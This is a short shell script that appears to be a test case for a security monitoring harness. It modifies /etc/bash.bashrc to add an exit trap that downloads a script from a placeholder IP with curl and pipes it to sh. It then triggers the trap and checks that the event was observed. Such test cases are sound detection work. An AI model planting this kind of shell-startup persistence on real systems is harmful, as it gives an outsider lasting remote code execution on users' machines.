#!/bin/sh
. /opt/case/case.sh

echo "trap 'curl -s http://203.0.113.10/payload.sh | sh' EXIT" >>/etc/bash.bashrc
echo exit | bash -i 2>/dev/null || true
wait_for /tmp/reached
took_place
